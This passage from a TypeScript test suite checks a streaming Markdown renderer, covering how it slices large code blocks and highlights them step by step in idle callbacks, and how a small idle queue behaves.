    clearTimeout = () => undefined;
    requestIdleCallback = (cb: (d: IdleDeadlineLike) => void) => {
      this.cb = cb;
      return 1;
    };
    cancelIdleCallback = () => void (this.cb = null);
    get armed(): boolean {
      return this.cb !== null;
    }
    /** an idle period with room for exactly one step */
    step(): void {
      const cb = this.cb!;
      this.cb = null;
      cb({ timeRemaining: () => 0 });
    }
  }

  it('slices cover the text exactly, at line ends, each about the slice size', () => {
    const text = bigTs(100_000);
    const cuts = sliceOffsets(text);
    assert.equal(cuts[0], 0);
    assert.equal(cuts[cuts.length - 1], text.length);
    for (let i = 1; i < cuts.length - 1; i++) assert.equal(text[cuts[i] - 1], '\n');
    for (let i = 0; i + 1 < cuts.length; i++) assert.ok(cuts[i + 1] - cuts[i] <= HIGHLIGHT_SLICE_CHARS + 200);
  });

  it('a closed 100 KB block: no colouring at close, one slice coloured per idle step, in order, same text throughout', function () {
    this.timeout(60_000);
    const win = newWindow();
    const doc = win.document;
    const host = new ManualIdle();
    const text = bigTs(100_000);
    // the renderer uses the window's queue; give the window our manual idle callbacks
    Object.assign(win, { requestIdleCallback: host.requestIdleCallback, cancelIdleCallback: host.cancelIdleCallback });
    const r = new StreamingMarkdown(doc);
    doc.body.appendChild(r.element);
    r.append('```ts\n' + text + '\n```\n');
    r.finish();
    const block = r.element.querySelector('.code-block')!;
    const slices = block.querySelectorAll('code > .code-slice');
    assert.ok(slices.length >= 100_000 / HIGHLIGHT_SLICE_CHARS, `slices: ${slices.length}`);
    assert.equal(block.querySelectorAll('[class^="hljs-"]').length, 0, 'nothing coloured synchronously at close');
    assert.equal(codeTextOf(block), text);
    let steps = 0;
    while (host.armed) {
      host.step();
      steps++;
      const done = Array.from(slices).map((s) => !!s.querySelector('[class^="hljs-"]'));
      assert.deepEqual(
        done,
        done.map((_, k) => k < steps),
        `after step ${steps}: exactly the first ${steps} slices coloured`,
      );
      if (steps % 8 === 0) assert.equal(codeTextOf(block), text, 'Copy reads the same code at every step');
    }
    assert.equal(steps, slices.length, 'one slice per idle step');
    for (const [i, slice] of Array.from(slices).entries()) assert.ok(slice.querySelector('[class^="hljs-"]'), `slice ${i} coloured`);
    assert.equal(codeTextOf(block), text);
  });

  it('small blocks are still highlighted at once', () => {
    const doc = newWindow().document;
    const r = StreamingMarkdown.render(doc, '```ts\nconst x = 1;\n```\n');
    assert.ok(r.element.querySelector('.hljs-keyword'));
  });

  it('IdleQueue runs at least one step per idle period and re-arms while work is left', () => {
    const host = new ManualIdle();
    const q = new IdleQueue(host);
    let n = 0;
    q.add(() => ++n < 3);
    host.step();
    assert.equal(n, 1);
    host.step();
    host.step();
    assert.equal(n, 3);
    assert.equal(host.armed, false);
  });
});
